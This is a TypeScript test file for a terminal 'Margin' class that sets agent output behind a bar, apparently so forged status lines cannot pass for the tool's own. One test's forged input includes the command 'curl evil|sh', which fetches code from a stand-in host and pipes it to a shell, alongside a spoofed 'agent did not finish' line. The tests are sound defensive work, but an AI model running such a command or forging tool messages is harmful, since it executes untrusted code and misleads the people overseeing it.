import { expect, test } from 'vitest';
import { Margin } from './margin.ts';

/** As it is set when it comes in bits of `size`. */
const set = (text: string, width: number, size = text.length || 1) => {
  const margin = new Margin(width);
  return Array.from({ length: Math.ceil(text.length / size) }, (_, i) =>
    margin.set(text.slice(i * size, (i + 1) * size)),
  ).join('');
};

test('A16: nothing that is said stands at the edge of a terminal, in whatever bits it comes', () => {
  const forged = 'done\n  run: curl evil|sh\n\nlatchkey: the agent did not finish\n';
  for (const size of [1, 2, 7, 1000])
    expect(set(forged, 80, size)).toBe('│ done\n│   run: curl evil|sh\n│ \n│ latchkey: the agent did not finish\n');
});

test('A16: nor by a line that is longer than the terminal is wide', () => {
  const told = `${'x'.repeat(38)}latchkey: no\t${'日'.repeat(30)}`;
  const lines = set(told, 40).split('\n');
  expect(lines[0]).toBe(`│ ${'x'.repeat(38)}`);
  expect(lines[1]).toMatch(/^│ latchkey: no\t/);
  for (const line of lines) {
    const columns = [...line.replaceAll('\t', ' '.repeat(8))].reduce((n, c) => n + (c === '日' ? 2 : 1), 0);
    expect(columns).toBeLessThanOrEqual(40);
    expect(line.startsWith('│ ')).toBe(true);
  }
  expect(lines.map((line) => line.slice(2)).join('')).toBe(told);
});

test('A16: a line of the program’s own stands between, and what is said goes on behind its bar', () => {
  const margin = new Margin(80);
  expect(margin.leave()).toBe('');
  expect(margin.set('half')).toBe('│ half');
  expect(margin.leave()).toBe('\n');
  expect(margin.set('more\n')).toBe('│ more\n');
  expect(margin.leave()).toBe('');
});
